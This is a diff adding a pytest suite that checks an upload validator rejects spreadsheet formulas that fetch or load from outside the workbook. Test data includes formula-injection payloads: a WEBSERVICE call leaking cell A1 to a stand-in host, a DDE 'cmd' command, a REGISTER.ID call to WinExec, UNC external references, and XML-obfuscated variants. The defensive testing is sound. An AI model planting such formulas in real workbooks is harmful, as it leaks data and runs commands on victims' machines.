@@ -1,0 +1,164 @@
+"""Formulas of real workbooks: what asks or loads as the sheet is worked out is refused, wherever the formula stands."""
+
+from collections.abc import Callable
+from io import BytesIO
+from zipfile import ZIP_DEFLATED, ZipFile
+
+import pytest
+from openpyxl import Workbook
+from openpyxl.chart import BarChart, Reference
+from openpyxl.formatting.rule import FormulaRule
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.table import Table, TableFormula
+
+from contacts.enums import FileFault
+from contacts.rules.uploads import parts
+from tests.contacts.rules.uploads.made import office
+from tests.contacts.rules.uploads.test_inspection import fault
+
+ASKS = '_xlfn.WEBSERVICE("https://e.example/"&A1)'
+SHEET = "xl/worksheets/sheet1.xml"
+
+
+def kept(book: Workbook) -> bytes:
+    made = BytesIO()
+    book.save(made)
+    return made.getvalue()
+
+
+def cell(formula: str) -> bytes:
+    book = Workbook()
+    book.active["B2"] = f"={formula}"
+    return kept(book)
+
+
+def rewritten(content: bytes, part: str, change: Callable[[str], str]) -> bytes:
+    """The package with one of its parts as no program would write it."""
+    made = BytesIO()
+    with ZipFile(BytesIO(content)) as before, ZipFile(made, "w", ZIP_DEFLATED) as after:
+        for each in before.infolist():
+            text = before.read(each)
+            after.writestr(each.filename, change(text.decode()).encode() if each.filename == part else text)
+    return made.getvalue()
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        ASKS,
+        f'_xlfn.FILTERXML({ASKS},"//rate")',
+        'webservice ("https://e.example")',
+        'IF(A1>0,RTD("a.server",,"LITHIUM"),0)',
+        '_xlfn.IMAGE("https://e.example/a.png")',
+        '_xlfn.IMPORTCSV("https://e.example/a.csv")',
+        '_xlfn.STOCKHISTORY("XNYS:ALB",TODAY())',
+        "_xlfn._xlws.PY(0,1,A1)",
+        'CUBEVALUE("ThisWorkbookDataModel","[Measures].[Sum]")',
+        'REGISTER.ID("kernel32","WinExec")',
+        "[1]Sheet1!A1",
+        "SUM('[2]Été 2026'!A1:A9)",
+        "'[1]L''annexe'!A1",
+        "[1]!Total",
+        "[量.xlsx]表!A1",
+        r"'\\192.0.2.1\share\[a.xlsx]Sheet1'!A1",
+        "'https://e.example/a.xlsx'!Total",
+        "cmd|'/c calc'!A0",
+        "Excel|Sheet1!R1C1",
+    ],
+)
+def test_a_formula_that_asks_or_loads_is_refused(formula: str) -> None:
+    assert fault(cell(formula), "a.xlsx") is FileFault.FORMULA
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "SUM(A1:A2)",
+        "'L''annexe'!A1+Sheet!B1",
+        'HYPERLINK("https://e.example/a.pdf","Report")',
+        '_xlfn.FILTERXML(A1,"//rate")',
+        "_xlfn._xlws.FILTER(A1:A3,B1:B3)",
+        "Lots[Tonnes]*Sheet!A1",
+        "Lots[Tonnes]&'My sheet'!A1",
+        "SUM(Lots[[#This Row],[a]:[c]])/Sheet!B1",
+        "[0]!Print_Area",
+        "A1/B1&'My sheet'!C1",
+        '"Image (front), 20 [%] | "&Sheet!B1',
+        "INDIRECT(A1)",
+    ],
+)
+def test_a_formula_that_stays_within_its_workbook_is_taken(formula: str) -> None:
+    assert fault(cell(formula), "a.xlsx") is None
+
+
+def named(book: Workbook) -> None:
+    book.defined_names["Rate"] = DefinedName("Rate", attr_text=ASKS)
+
+
+def on_a_condition(book: Workbook) -> None:
+    book.active.conditional_formatting.add("A1:A9", FormulaRule(formula=[ASKS]))
+
+
+def among_allowed_values(book: Workbook) -> None:
+    book.active.add_data_validation(DataValidation(type="custom", formula1="TRUE", formula2=ASKS, sqref="A1"))
+
+
+def in_a_table(book: Workbook) -> None:
+    for row in (["Lot", "Tonnes"], [1, 2]):
+        book.active.append(row)
+    table = Table(displayName="Lots", ref="A1:B2")
+    table._initialise_columns()
+    table.tableColumns[1].calculatedColumnFormula = TableFormula(attr_text=ASKS)
+    book.active.add_table(table)
+
+
+def in_a_chart(book: Workbook) -> None:
+    chart = BarChart()
+    chart.add_data(Reference(book.active, min_col=1, min_row=1, max_row=3))
+    chart.series[0].val.numRef.f = "[1]Sheet!$A$1:$A$3"
+    book.active.add_chart(chart, "D1")
+
+
+@pytest.mark.parametrize("put", [named, on_a_condition, among_allowed_values, in_a_table, in_a_chart])
+def test_wherever_a_workbook_keeps_a_formula_it_is_read(put: Callable[[Workbook], None]) -> None:
+    book = Workbook()
+    put(book)
+    assert fault(kept(book), "a.xlsx") is FileFault.FORMULA
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        f"<f>{'&#87;'}EBSERVICE(A1)</f>",
+        "<f>WEB<!-- -->SERVICE(A1)</f>",
+        "<f><![CDATA[WEBSERVICE(A1)]]></f>",
+        "<f>1+<f>2</f>+WEBSERVICE(A1)</f>",
+        '<x xmlns="urn:x" textlink="[1]Sheet!A1"/>',
+    ],
+)
+def test_however_it_is_written_it_is_read(written: str) -> None:
+    content = rewritten(cell("SUM(A1)"), SHEET, lambda text: text.replace("<f>SUM(A1)</f>", written))
+    assert fault(content, "a.xlsx") is FileFault.FORMULA
+
+
+def test_a_sheet_under_another_name_is_read() -> None:
+    of_sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
+    types = f'<Types><Override PartName="/elsewhere/A.bin" ContentType="{of_sheet}"/></Types>'
+    content = office("xl/workbook.xml", {"elsewhere/a.bin": f"<c><f>{ASKS.replace('&', '&amp;')}</f></c>"}, types)
+    assert fault(content, "a.xlsx") is FileFault.FORMULA
+
+
+def test_what_says_so_in_a_text_asks_for_nothing() -> None:
+    book = Workbook()
+    book.active["A1"] = "WEBSERVICE(A1) and [1]Sheet!A1"
+    assert fault(kept(book), "a.xlsx") is None
+
+
+def test_sheets_are_read_no_further_than_their_limit(monkeypatch: pytest.MonkeyPatch) -> None:
+    content = cell(ASKS)
+    monkeypatch.setattr(parts, "LARGEST_TEXT", 1_000)
+    assert fault(content, "a.xlsx") is FileFault.TOO_LARGE
+    monkeypatch.undo()
+    longest = rewritten(cell("SUM(A1)"), SHEET, lambda text: text.replace("SUM(A1)", "1+" * 60_000))
+    assert fault(longest, "a.xlsx") is FileFault.SWELLS
